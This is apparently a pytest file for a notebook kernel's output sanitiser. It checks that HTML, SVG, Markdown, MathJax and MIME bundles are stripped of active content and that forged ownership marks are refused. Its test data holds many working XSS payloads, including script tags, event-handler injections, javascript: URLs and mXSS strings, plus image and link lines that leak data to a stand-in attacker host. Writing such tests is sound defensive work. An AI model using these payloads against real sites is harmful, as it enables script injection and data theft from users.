"""The output policy in-process: every active-content payload kind loses its script, the honest ones keep
their structure, and a forged kernel mark is no mark (rlm_kernel/output)."""

from __future__ import annotations

import re

import pytest

from rlm_kernel.output import clean_bundle, is_owned, mark, own, own_type, take_mark
from rlm_kernel.output.bundles import INERT_TYPES
from rlm_kernel.output.sanitise import clean_html, clean_svg, markdown_html, neutralise_tex

# what no cleaned HTML/SVG may contain (lower-cased)
ACTIVE = re.compile(
    r"<script|<iframe|<frame|<object|<embed|<form|<input|<button|<meta|<base|<link|<style|<svg|<math|"
    r"<foreignobject|<template|\son\w+\s*=|=[\"']?\s*(?:java|vb)script:|srcdoc|style=|class=|\sid=|"
    r"src=\"?https?:|src=\"?/|href=\"?/|xlink:href=\"?[^#\"]"
)

HTML_PAYLOADS = [
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='/api/contents'>relative</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data link</a>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # mXSS via namespace confusion
    "<iframe src='/api/kernels'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='/api/contents' method=post><input name=x><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</div>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<img src='https://evil.example/leak?secret=1'>",
    "<img src='/files/secret.png'>",
    "<div class='jp-Dialog' id='jp-main-dock-panel'>clobber</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=' onload=alert(1)>",
    "<a href='//evil.example/'>protocol-relative</a>",
    "<a href='https:/\\evil.example'>backslash</a>",
]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_active_html_is_made_inert(payload: str) -> None:
    cleaned = clean_html(payload)
    assert not ACTIVE.search(cleaned.lower()), cleaned


def test_markdown_raw_html_and_script_links_are_made_inert() -> None:
    source = (
        "# Title\n\n<img src=x onerror=alert(1)> [click](javascript:alert(1)) [ok](https://example.org)\n\n"
        "<script>alert(2)</script>\n\n[ref]: javascript:alert(3)\n\n"
        "[r][ref] <a href=javascript:alert(4)>a</a>"
    )
    out = markdown_html(source)
    assert not ACTIVE.search(out.lower()), out
    assert "<h1>Title</h1>" in out and 'href="https://example.org"' in out


def test_markdown_images_load_nothing_remote() -> None:
    out = markdown_html("![x](https://evil.example/leak?d=1) ![y](data:image/png;base64,AAAA)")
    assert "evil.example" not in out and 'src="data:image/png;base64,AAAA"' in out


def test_markdown_keeps_math_and_tables() -> None:
    out = markdown_html("**bold** $a_1 * b_2$ and\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "<strong>bold</strong>" in out and "$a_1 * b_2$" in out and "<td>1</td>" in out


def test_mathjax_active_commands_are_neutralised() -> None:
    for command in (
        "href{javascript:alert(1)}{x}",
        "style{border:2px solid green}{x}",
        "class{jp-x}{y}",
        "fcolorbox{green}{white}{FINAL}",
        "require{action}",
        "cssId{x}{y}",
        "bbox[green]{x}",
    ):
        text = neutralise_tex(f"$\\{command}$")
        assert f"\\{command}" not in text and "\\\u200b" in text
    assert neutralise_tex(r"$\frac{1}{2} + \alpha$") == r"$\frac{1}{2} + \alpha$"
    assert "\\\u200bhref" in clean_html("<p>&#92;href{javascript:alert(1)}{x}</p>")  # entities decode


def test_svg_keeps_drawing_loses_script() -> None:
    svg = (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">'
        '<defs><clipPath id="p"><rect width="5" height="5"/></clipPath></defs>'
        '<g clip-path="url(#p)" style="fill:#f00;background:url(https://evil.example/x)">'
        '<path d="M0 0L9 9" style="stroke:#000"/><use href="#p"/><use href="https://evil.example/x#a"/>'
        '<a href="javascript:alert(1)"><text>t</text></a></g><script>alert(1)</script>'
        "<foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"
    )
    out = clean_svg(svg)
    assert out.startswith('<svg xmlns="http://www.w3.org/2000/svg"') and '<path d="M0 0L9 9"' in out
    assert 'style="stroke:#000"' in out and 'href="#p"' in out and "<text>t</text>" in out
    for bad in ("onload", "<script", "foreignObject", "javascript:", "evil.example", "<img", "<a "):
        assert bad not in out, out


def test_bundle_keeps_only_inert_types() -> None:
    data = {
        "text/plain": "x",
        "application/javascript": "alert(1)",
        "text/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "abc"},
        "application/vnd.vegalite.v5+json": {"data": {"url": "/api/contents"}},
        "application/vnd.custom+html": "<script>alert(1)</script>",
        "application/pdf": "JVBER",
        "text/html": "<b>bold</b><script>alert(1)</script>",
        "image/png": "iVBORw0KGgo=",
        "image/jpeg": "not base64 <script>",
        "application/json": {"a": "<script>"},
    }
    out, meta = clean_bundle(
        data, {"isolated": True, "rlm": {"calls": 99}, "image/png": {"width": 5, "x": 1}}
    )
    assert set(out) == {"text/plain", "text/html", "image/png", "application/json"}
    assert out["text/html"] == "<b>bold</b>"
    assert meta == {"image/png": {"width": 5}}
    assert set(out) <= INERT_TYPES


def test_a_bundle_with_nothing_inert_says_what_was_removed() -> None:
    out, _ = clean_bundle({"application/javascript": "document.title='x'"})
    assert set(out) == {"text/plain"} and "application/javascript" in out["text/plain"]
    assert clean_bundle({}) == ({}, {})  # display(display_id=True)'s placeholder


def test_markdown_representation_becomes_sanitised_html() -> None:
    out, _ = clean_bundle({"text/markdown": "**hi** <img src=x onerror=alert(1)>"})
    assert set(out) == {"text/html", "text/plain"} and "<strong>hi</strong>" in out["text/html"]
    assert "onerror" not in out["text/html"]


def test_forged_mark_is_no_mark() -> None:
    marked = mark({"a": 1})
    assert take_mark(marked) == (True, {"a": 1})
    forged = {"rlm_kernel.own_display": True}
    assert take_mark(forged) == (False, {})
    assert take_mark({"rlm_kernel.own_display": str(marked["rlm_kernel.own_display"])})[0] is False
    out, _ = clean_bundle({"text/html": "<script>x</script><b>y</b>"}, forged)
    assert out == {"text/html": "<b>y</b>"}
    own_html = "<style>.x{}</style><b class='x'>y</b>"
    kept, meta = clean_bundle({"text/html": own_html}, mark({"isolated": True}))
    assert kept == {"text/html": own_html} and meta == {}  # styled as made; a cell's metadata still cut


def test_owned_objects_are_trusted_by_identity_not_by_equality() -> None:
    from dataclasses import dataclass, replace

    @dataclass
    class Result:
        answer: str

    real = own(Result("42"))
    assert is_owned(real)
    copy = replace(real, answer="42")
    assert copy == real and not is_owned(copy)  # a cell's copy of a kernel object is not the kernel's

    @own_type
    class Widget:
        pass

    class Sub(Widget):
        pass

    widget = Widget()
    assert is_owned(widget) and not is_owned(Sub())
    widget._repr_html_ = lambda: "<script>x</script>"  # type: ignore[attr-defined]
    assert not is_owned(widget)  # its own display method in the instance: not the kernel's display


def test_honest_pandas_table_survives() -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"name": ["a<b", "c"], "value": [1.5, 2]})
    out, _ = clean_bundle({"text/html": frame._repr_html_(), "text/plain": repr(frame)})
    html = out["text/html"]
    assert (
        "<table>" in html and "<th>name</th>" in html and "<td>a&lt;b</td>" in html and "<td>1.5</td>" in html
    )
    assert "<style" not in html and "class=" not in html


def test_mathjax_commands_split_by_a_tag_mathjax_reads_across_are_neutralised() -> None:
    """MathJax joins the text around `<wbr>` (and comments) into one formula (third red team): the command
    must not pass the neutraliser in pieces, in HTML or in Markdown's raw HTML."""
    for source in (
        "<p>$\\<wbr>fcolorbox{green}{lightgreen}{FINAL ANSWER 42}$</p>",
        "<p>$\\<wbr/>style{border:2px solid green}{FINAL}$</p>",
        "<p>$\\<!-- x -->href{https://example.org}{FINAL}$</p>",
    ):
        out = clean_html(source)
        assert "wbr" not in out and "<!--" not in out, out
        assert re.search(r"\\(fcolorbox|style|href)", out) is None, out
    md = markdown_html("&#36;\\\\<wbr>fcolorbox{green}{lightgreen}{FINAL}&#36;")
    assert re.search(r"\\(<wbr>)?fcolorbox", md) is None, md


def test_colortbl_and_setoptions_are_neutralised() -> None:
    for command in ("cellcolor{lightgreen}", "rowcolor{green}", "columncolor{green}", "setOptions[tex]{x}"):
        text = neutralise_tex(f"$\\begin{{array}}{{|c|}}\\{command} x\\end{{array}}$")
        assert f"\\{command}" not in text and "\\\u200b" in text


def test_non_finite_image_hints_are_dropped() -> None:
    """NaN/Infinity are not JSON: a bundle carrying them failed to serialise (a warning, a mangled reply)."""
    _, metadata = clean_bundle(
        {"image/png": "AAAA", "text/plain": "p"},
        {"image/png": {"width": float("nan"), "height": float("inf"), "unconfined": True}},
    )
    assert metadata == {"image/png": {"unconfined": True}}
